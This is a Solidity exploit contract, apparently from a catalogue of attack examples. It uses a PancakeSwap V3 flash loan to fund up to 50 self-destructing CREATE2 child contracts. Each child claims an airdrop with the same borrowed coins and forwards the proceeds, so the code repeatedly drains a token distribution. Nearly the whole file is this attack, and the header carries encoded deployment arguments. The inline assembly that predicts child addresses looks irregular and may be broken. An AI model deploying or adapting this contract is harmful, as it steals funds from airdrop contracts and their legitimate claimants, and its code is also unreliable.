// SPDX-License-Identifier: BSD-3-Clause
// provider: pancake_v3_flash
// family: snapshot
// contract: Swarm
// shows: entry callback
// since: 0.6
// arguments: 0x000000000000000000000000bb4cdb9cbd36b01bd1cbaebf2de08d9173bc095c000000000000000000000000cccc00000000000000000000000000000000cccc000000000000000000000000dddd00000000000000000000000000000000dddd00000000000000000000000036696169c63e42cd08ce11f5deebbcebae652050
// Claims with the same borrowed coins through child after child, each of which removes itself.
pragma solidity >=0.6.0 <0.9.0;

interface IP3 { function flash(address, uint256, uint256, bytes calldata) external; }
interface IBep { function transfer(address, uint256) external returns (bool); function balanceOf(address) external view returns (uint256); }
interface IDrop { function claim(address to) external; }

contract Bee {
	constructor(IBep coin, IBep gift, IDrop drop, address home) public {
		drop.claim(address(this));
		coin.transfer(home, coin.balanceOf(address(this)));
		gift.transfer(home, gift.balanceOf(address(this)));
		assembly { selfdestruct(caller()) }
	}
}

contract Swarm {
	IBep immutable coin;
	IBep immutable gift;
	IDrop immutable drop;
	IP3 immutable pool;
	constructor(IBep c, IBep g, IDrop d, IP3 p) public { coin = c; gift = g; drop = d; pool = p; }
	function sting(uint256 n) external { pool.flash(address(this), n, 0, abi.encode(n, msg.sender)); }
	function pancakeV3FlashCallback(uint256 fee0, uint256, bytes calldata data) external {
		(uint256 n, address to) = abi.decode(data, (uint256, address));
		for (uint256 i = 0; i < 50; i++) {
			bytes memory init = abi.encodePacked(type(Bee).creationCode, abi.encode(coin, gift, drop, address(this)));
			address next;
			assembly { let h := keccak256(add(init, 32), mload(init)) mstore(0, or(shl(248, 0xff), or(shl(88, address()), shr(168, i)))) mstore(21, i) mstore(53, h) next := and(keccak256(0, 85), 0xffffffffffffffffffffffffffffffffffffffff) }
			coin.transfer(next, n);
			assembly { pop(create2(0, add(init, 32), mload(init), i)) }
		}
		coin.transfer(msg.sender, n + fee0);
		gift.transfer(to, gift.balanceOf(address(this)));
	}
}
